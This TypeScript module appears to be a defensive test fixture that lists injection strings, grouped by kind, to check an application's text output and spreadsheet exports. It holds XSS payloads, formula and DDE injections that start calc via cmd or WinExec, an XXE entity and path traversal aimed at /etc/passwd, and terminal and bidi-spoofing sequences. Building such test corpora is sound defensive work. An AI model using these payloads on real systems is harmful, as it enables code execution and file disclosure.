/** What an injection tries to get at. */
export type InjectionKind =
  /** Run a script in a page, or put elements of its own into it. */
  | 'script' | 'markup'
  /** Reach another address, or change what is seen, by a style. */
  | 'style'
  /** Be filled in by a template or a message. */
  | 'template'
  /** Become a formula, also behind a blank that a program drops. */
  | 'formula'
  /** Start a program by DDE. */
  | 'command'
  /** Lead somewhere when it is clicked. */
  | 'link'
  /** Steer a terminal, or a log that is read line by line. */
  | 'terminal'
  /** Read otherwise than it is. */
  | 'direction'
  /** End a record, a string or a column of an output early. */
  | 'record'
  /** Mean something to a format of numbers, a footer, a path or an object's members. */
  | 'format' | 'name';

export interface Injection {
  readonly kind: InjectionKind;
  readonly text: string;
}

/** Texts that would do something, if anybody took them for more than text. A page in which one ran has a global `injected`. */
const texts: Readonly<Record<InjectionKind, readonly string[]>> = {
  script: [
    '<script>globalThis.injected=1</script>',
    '"><img src=x onerror="globalThis.injected=1">',
    "'><svg onload='globalThis.injected=1'>",
    '<iframe srcdoc="<script>parent.injected=1</script>"></iframe>',
    '<details open ontoggle=globalThis.injected=1>',
    '<math><mtext><script>globalThis.injected=1</script></mtext></math>',
    '<body onload=globalThis.injected=1>',
    '</script><script>globalThis.injected=1</script>',
    '";globalThis.injected=1;//',
    "'-(globalThis.injected=1)-'",
    '\u2028globalThis.injected=1\u2028',
  ],
  markup: [
    '</textarea></title></style><b class=injected>粗</b>',
    '<form action="https://example.invalid/"><input name=injected autofocus>',
    '<meta http-equiv="refresh" content="0;url=https://example.invalid/">',
    '<base href="https://example.invalid/">',
    '<object data="https://example.invalid/x"></object>',
    '<!--', '-->', ']]>', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', '&lt;script&gt;', '&#60;script&#62;', '&amp;amp;',
  ],
  style: [
    '<style>*{display:none}</style>',
    '<div style="background:url(https://example.invalid/x)">',
    'background:url(https://example.invalid/x)',
    '</style><style>@import "https://example.invalid/x"',
    'red;}body{display:none}',
    'expression(globalThis.injected=1)',
  ],
  template: ['{injected}', '{{constructor.constructor("globalThis.injected=1")()}}', '${globalThis.injected=1}', '{count, plural, other {x}}', '<%= injected %>', "'{'", '#{injected}'],
  formula: [
    '=1+1', '+1+1', '-1+1', '-1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1+1', '＠SUM(1)', "'=1+1", '"=1+1', ';=1+1', ',=1+1', '\ufeff=1+1', '\u200b=1+1', '\u00a0=1+1',
    '=WEBSERVICE("https://example.invalid/")', '=IMPORTXML("https://example.invalid","//a")', '=INDIRECT("A1")', '=CALL("kernel32","WinExec","JCJ","calc",0)', '{=SUM(A1:A2)}',
  ],
  command: ["=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("cmd","/C calc","x")', "\t=cmd|' /C calc'!A0", '=MSEXCEL|\'\\..\\..\\calc.exe\'!\'\''],
  link: [
    '=HYPERLINK("https://example.invalid/?"&A1,"点这里")', '<a href="javascript:globalThis.injected=1">点这里</a>', 'javascript:globalThis.injected=1', 'data:text/html,<script>parent.injected=1</script>',
    'file:///etc/passwd', '\\\\example.invalid\\share', '[点这里](https://example.invalid/)', '![](https://example.invalid/x.png)', '#Sheet1!A1',
  ],
  terminal: ['\u001b[2J\u001b[31m红\u001b[0m', '\u001b]0;title\u0007', '\u001b]8;;https://example.invalid/\u0007点这里\u001b]8;;\u0007', '\u009b31m', '\u0090q\u009c', 'a\u0000b', '一\b二\u007f', '第一行\n::error::第二行', '进度\r完成'],
  direction: ['\u202e倒过来', '报表\u202exslx.exe', '\u2066\u202e隔开\u2069', '\u061c阿\u200e拉\u200f伯'],
  record: ['"', '""', '","injected":true,"', '"}]}', '\\', '\\"', '\\u0022', 'a,b;c\td', '\n{"schema":1,"path":"injected"}', '%0A%0D', '\ud800'],
  format: ['&L&P&"宋体"', '%s%n%d', '_x000D_', '_x003C_b_x003E_', '[红色]0.00', '~*?'],
  name: ['../../etc/passwd', '__proto__', 'constructor', 'toString', 'CON', 'History'],
};

/** The one list of injections: every place where a text is shown or written is tried with all of them. */
export const injections: readonly Injection[] = Object.entries(texts).flatMap(([kind, all]) => all.map((text) => ({ kind: kind as InjectionKind, text })));

/** A sheet's name can hold most of a text: not \ / ? * [ ] :, and no more than 31 characters. */
export function sheetNameOf(text: string): string {
  const name = text.replace(/[\\/?*[\]:\u0000-\u001f\ufffe\uffff]|\p{Surrogate}/gu, '').slice(0, 31).replace(/^'+|'+$/g, '').trim(); // eslint-disable-line no-control-regex -- a file cannot hold these in a name
  return name === '' || name.toLowerCase() === 'history' ? '表' : name;
}
